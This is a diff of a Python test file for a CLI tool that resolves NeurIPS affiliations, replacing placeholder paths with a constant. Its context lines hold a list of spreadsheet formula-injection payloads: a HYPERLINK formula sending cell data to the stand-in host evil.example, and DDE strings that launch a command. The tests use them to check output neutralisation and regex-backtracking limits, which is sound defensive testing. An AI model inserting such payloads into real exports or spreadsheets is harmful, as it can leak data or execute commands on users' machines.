@@ -23,6 +23,9 @@ from talentcheck.run.results import write_verdicts
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x",
             "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "\n=1+1"]
 
+ABSENT = "/nonexistent-talentcheck-raw"
+"""A raw folder that is not there (a user's clone has none)."""
+
 
 def read_back(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
@@ -66,11 +69,11 @@ def test_verdicts_csv_neutralises_a_claims_words_and_keeps_line_breaks_in_their_
 
 @pytest.fixture
 def resolver():
-    return resolver_for(Path("/nonexistent/raw"))  # the reviewed table only, as in a user's clone
+    return resolver_for(Path(ABSENT))  # the reviewed table only, as in a user's clone
 
 
 def test_resolve_echoes_no_formula_and_quotes_a_carriage_return(capsys):
-    assert cli.main(["neurips", "resolve", "=cmd|' /C calc'!A0", "Tsinghua\rUniversity", "--raw", "/nonexistent"]) == 0
+    assert cli.main(["neurips", "resolve", "=cmd|' /C calc'!A0", "Tsinghua\rUniversity", "--raw", ABSENT]) == 0
     out = capsys.readouterr().out
     rows = read_back(out)
     assert rows[0] == ["raw", "institution", "country", "sector"]
@@ -104,7 +107,7 @@ def test_a_resolvers_memory_stays_bounded_on_a_stream_of_new_strings(resolver, m
 ], ids=["closed", "not-utf8"])
 def test_a_closed_or_undecodable_stdin_is_one_line(monkeypatch, capsys, stdin, message):
     monkeypatch.setattr(sys, "stdin", stdin)
-    assert cli.main(["neurips", "resolve", "--raw", "/nonexistent"]) == 2
+    assert cli.main(["neurips", "resolve", "--raw", ABSENT]) == 2
     err = capsys.readouterr().err
     assert err.endswith(f"talentcheck: error: {message}\n") and err.count("talentcheck: error") == 1, err
 
@@ -123,7 +126,7 @@ def test_a_pattern_that_backtracks_on_a_name_is_named_by_file_row_and_column(dat
     set_cell(data_copy / "neurips" / "institution_names.csv", {"institution": "DeepMind"}, "names", "(xy|xyxy)+z")
     assert cli.main(["validate"]) == 0
     capsys.readouterr()
-    assert cli.main(["neurips", "resolve", "xy" * 30, "--raw", "/nonexistent"]) == 2
+    assert cli.main(["neurips", "resolve", "xy" * 30, "--raw", ABSENT]) == 2
     err = capsys.readouterr().err.splitlines()[-1].replace(f"{data_copy.parent}/", "")
     assert err.startswith("talentcheck: error: data/neurips/institution_names.csv, row 2, column names: the pattern "
                           "'(xy|xyxy)+z' took over 0.5 s on 'xyxyxy"), err
@@ -234,7 +237,7 @@ def test_the_pattern_that_hung_resolve_is_refused_by_validate_and_by_resolve_at_
     set_cell(data_copy / "neurips" / "institution_names.csv", {"institution": "DeepMind"}, "names", "(a+)+b")
     line = ("data/neurips/institution_names.csv, row 2, column names: '(a+)+b' is a regular expression whose search of "
             "'aaaaaaaaaaaa'... takes over 0.5 s")
-    for args in (["validate"], ["neurips", "resolve", "a" * 5000, "--raw", "/nonexistent"]):
+    for args in (["validate"], ["neurips", "resolve", "a" * 5000, "--raw", ABSENT]):
         start = time.perf_counter()
         assert cli.main(args) == 2
         assert time.perf_counter() - start < 10
@@ -248,12 +251,12 @@ def test_the_pattern_that_hung_resolve_is_refused_by_validate_and_by_resolve_at_
 ], ids=["long-line", "long-multibyte-unended", "long-unended"])
 def test_a_line_longer_than_any_affiliation_is_refused_not_held(monkeypatch, capsys, stdin, message):
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stdin)))
-    assert cli.main(["neurips", "resolve", "--raw", "/nonexistent"]) == 2
+    assert cli.main(["neurips", "resolve", "--raw", ABSENT]) == 2
     assert capsys.readouterr().err.splitlines()[-1] == f"talentcheck: error: {message} (one affiliation string is expected per line)"
 
 
 def test_an_argument_longer_than_any_affiliation_is_refused(capsys):
-    assert cli.main(["neurips", "resolve", "ok", "y" * 10_001, "--raw", "/nonexistent"]) == 2
+    assert cli.main(["neurips", "resolve", "ok", "y" * 10_001, "--raw", ABSENT]) == 2
     assert capsys.readouterr().err.endswith("talentcheck: error: argument 2: longer than 10,000 characters "
                                             "(one affiliation string is expected per line)\n")
 
